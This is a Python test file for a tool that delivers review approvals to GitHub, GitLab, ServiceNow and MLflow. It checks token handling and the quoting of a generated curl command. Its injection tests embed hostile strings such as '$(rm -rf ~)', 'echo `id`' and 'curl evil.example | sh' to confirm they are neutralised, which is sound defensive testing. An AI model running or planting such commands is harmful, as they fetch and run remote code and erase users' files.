"""Which target carries out what, what stops a call, the command for people, and that no secret is ever seen."""

import json
import shlex

import pytest

from collectors.access import Access
from collectors.delivery import github_review
from collectors.delivery.base import Action, Decision, Subject
from collectors.delivery.carrying import deliver
from collectors.delivery.outside import command
from collectors.delivery.settings import KINDS, DeliverySettings
from collectors.delivery.targets import TARGETS, shares, target_of
from collectors.github.settings import Settings
from collectors.secrets import SecretRef
from store.decode import decode_all
from store.errors import ConfigError, SourceError, StoreError
from tests.collectors.delivery.conftest import APPROVE, HEAD, Pages

PULL = Subject("c1", "github", "acme/assistants#12 prompts", HEAD)
OPTIONS = Settings(("acme/assistants",), "https://host.example")
PLACE = "/repos/acme/assistants/pulls/12"
OPEN = {PLACE: {"state": "open", "head": {"sha": HEAD}}, "/user": {"login": "jonas"}, f"{PLACE}/reviews": []}


@pytest.mark.parametrize(
    ("kind", "external", "module"),
    [
        ("github", "acme/assistants#12", "github_review"),
        ("github", "acme/assistants#12 prompts", "github_review"),
        ("github", "acme/assistants run 7 production eu", "github_deployment"),
        ("gitlab", "group/sub/bots!7 prompts", "gitlab_merge"),
        ("gitlab", "group/sub/bots deployment 9", "gitlab_deployment"),
        ("servicenow", "0123456789abcdef0123456789abcdef", "servicenow"),
        ("mlflow", "prompt support bot 3", "mlflow_alias"),
        ("mlflow", "model ranker 3", "mlflow_alias"),
        ("mlflow", "something else", ""),
        ("langfuse", "prompt support 3", ""),
    ],
)
def test_the_kind_of_source_and_the_reference_name_the_target(kind: str, external: str, module: str) -> None:
    found = target_of(kind, Subject("c", "s", external, ""))
    assert (getattr(found, "__name__", "").rpartition(".")[2]) == module


def test_parts_of_one_pull_request_share_a_review_and_nothing_else_does() -> None:
    def share(one: str, other: str, source: str = "s") -> bool:
        subject = Subject("c1", "s", one, "")
        target = target_of("github", subject)
        assert target is not None
        return shares(target, subject, Subject("c2", source, other, ""))

    assert share("acme/a#12 prompts", "acme/a#12 models")
    assert not share("acme/a#12 prompts", "acme/a#13 prompts")
    assert not share("acme/a#12 prompts", "acme/a#12 models", "another source")
    assert not share("acme/a#12 prompts", "acme/a run 7 production")
    assert not share("acme/a run 7 production", "acme/a run 7 staging")


async def test_what_cannot_be_written_down_first_is_not_sent() -> None:
    def refuse(_: Action) -> None:
        raise StoreError("the spool cannot be written")

    pages = Pages(OPEN)
    with pytest.raises(StoreError):
        await deliver(pages, github_review, PULL, APPROVE, OPTIONS, refuse)
    assert pages.sent == []


@pytest.mark.parametrize(
    ("logins", "state"), [(("lee",), "refused"), (("lee", "Jonas"), "unconfirmed"), ((), "unconfirmed")]
)
async def test_a_token_of_an_account_that_is_not_the_persons_sends_nothing(logins: tuple[str, ...], state: str) -> None:
    pages = Pages(OPEN)
    found = await deliver(pages, github_review, PULL, APPROVE, OPTIONS, lambda _: None, logins)
    assert (found.state, len(pages.sent)) == (state, int(state != "refused"))


async def test_a_source_that_cannot_be_read_is_sent_nothing() -> None:
    pages = Pages({PLACE: SourceError("timeout", "silence for too long")})
    found = await deliver(pages, github_review, PULL, APPROVE, OPTIONS, lambda _: None)
    assert (found.state, found.detail) == ("recorded", "nothing was sent: silence for too long")


@pytest.mark.parametrize(
    ("access", "header", "rest"),
    [
        (Access(), "Authorization: Bearer $TOKEN", ["$TOKEN is a token of your own"]),
        (Access(token=SecretRef("env", ("MY_TOKEN",))), "Authorization: Bearer $MY_TOKEN", []),
        (
            Access(token=SecretRef("file", ("/home/me/t",)), token_header="PRIVATE-TOKEN", token_scheme=""),
            "PRIVATE-TOKEN: $TOKEN",
            ["$TOKEN is file:/home/me/t"],
        ),
        (Access(token=SecretRef("env", ("T",)), token_scheme="Token token="), "Authorization: Token token=$T", []),
    ],
)
def test_the_command_for_people_names_the_token_and_quotes_what_came_from_outside(
    access: Access, header: str, rest: list[str]
) -> None:
    nasty = Decision("e", "approve", "$(rm -rf ~) '; echo `id`")
    action = github_review.plan(PULL, nasty, OPTIONS)
    assert isinstance(action, Action)
    line, guard, *more = command(action, access).split("\n")
    assert line.startswith(f'curl --fail-with-body --request POST --header @<(printf %s "{header}") ')
    words = shlex.split(line.partition('") ')[2])
    assert json.loads(words[words.index("--data") + 1])["body"] == nasty.reason
    assert words[-1] == f"https://host.example{PLACE}/reviews"
    assert (guard, more) == (f"only while the source shows: head {HEAD}", rest)


def test_the_command_says_where_missing_ids_are_shown_and_lets_curl_ask_for_a_password() -> None:
    subject = Subject("c", "github", "acme/a run 7 production", HEAD)
    target = target_of("github", subject)
    assert target is not None
    action = target.plan(subject, APPROVE, OPTIONS)
    assert isinstance(action, Action)
    access = Access(username="jonas", password=SecretRef("env", ("PW",)))
    line, _, where = command(action, access).split("\n")
    assert "--user jonas" in line
    assert where == f"what stands between < and > is shown by {action.url}"


def test_what_a_source_says_cannot_add_a_line_that_reads_as_a_command() -> None:
    subject = Subject("c", "github", "acme/a#12", "abc\ncurl evil.example | sh\x1b[2J", url="https://x\nrm -rf ~")
    action = github_review.plan(subject, APPROVE, OPTIONS)
    assert isinstance(action, Action)
    lines = command(action, Access()).split("\n")
    assert len(lines) == 3
    assert all(line.isprintable() for line in lines)
    assert lines[1].startswith("only while the source shows: head abc curl evil.example | sh")


def test_a_delivery_without_a_token_of_the_person_is_refused() -> None:
    with pytest.raises(ConfigError, match="token of the person"):
        decode_all(DeliverySettings, {"source": "github", "access": {}})
    made = decode_all(DeliverySettings, {"source": "github", "access": {"token": "env:MY_TOKEN"}})
    assert made.enabled


def test_every_target_says_what_its_call_decides() -> None:
    assert set(TARGETS) == set(KINDS)
    assert {target.WHOLE for targets in TARGETS.values() for target in targets} == {True, False}
